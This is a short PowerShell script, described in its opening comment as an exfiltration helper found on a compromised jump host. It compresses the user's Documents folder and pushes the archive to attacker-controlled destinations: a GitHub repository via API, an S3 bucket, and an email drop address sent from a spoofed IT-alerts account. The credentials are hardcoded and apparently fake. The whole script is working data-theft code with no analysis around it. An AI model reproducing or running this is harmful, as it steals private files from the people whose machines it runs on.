# Exfil helper found on a compromised jump host: pushes collected archives to attacker-controlled storage.
$awsAccessKey = 'AKIAZ7Q4XK2M9PLW3RTE'
$awsSecret = 'q8Vd2mN7xL0pR4tY6uI9oP1aS3dF5gH7jK9lZ2xC'
$ghToken = 'ghp_R4nD0mL00k1ngT0k3nV4lu3F0rT3st1ngXy9'
$smtpPassword = 'Winter2025!'

function Send-Loot {
    param(
        [string]$Path,
        [string]$UserName,
        [string]$Password
    )
    $secure = ConvertTo-SecureString -String $Password -AsPlainText -Force
    $cred = [pscredential]::new($UserName, $secure)
    Send-MailMessage -To 'drop@protonmail.example' -From 'it-alerts@corp.example' -Subject 'report' -Attachments $Path -SmtpServer 'smtp.office365.com' -Port 587 -UseSsl -Credential $cred
}

$zip = "$env:TEMP\$env:COMPUTERNAME.zip"
Compress-Archive -Path "$env:USERPROFILE\Documents\*" -DestinationPath $zip -Force

$headers = @{ Authorization = "token $ghToken"; Accept = 'application/vnd.github+json' }
$body = @{ message = 'sync'; content = [Convert]::ToBase64String([IO.File]::ReadAllBytes($zip)) } | ConvertTo-Json
Invoke-RestMethod -Method Put -Uri "https://api.github.com/repos/backup-sync/store/contents/$env:COMPUTERNAME.zip" -Headers $headers -Body $body

$env:AWS_ACCESS_KEY_ID = $awsAccessKey
$env:AWS_SECRET_ACCESS_KEY = $awsSecret
aws s3 cp $zip s3://corp-backup-mirror-7731/ --quiet

Send-Loot -Path $zip -UserName 'it-alerts@corp.example' -Password $smtpPassword
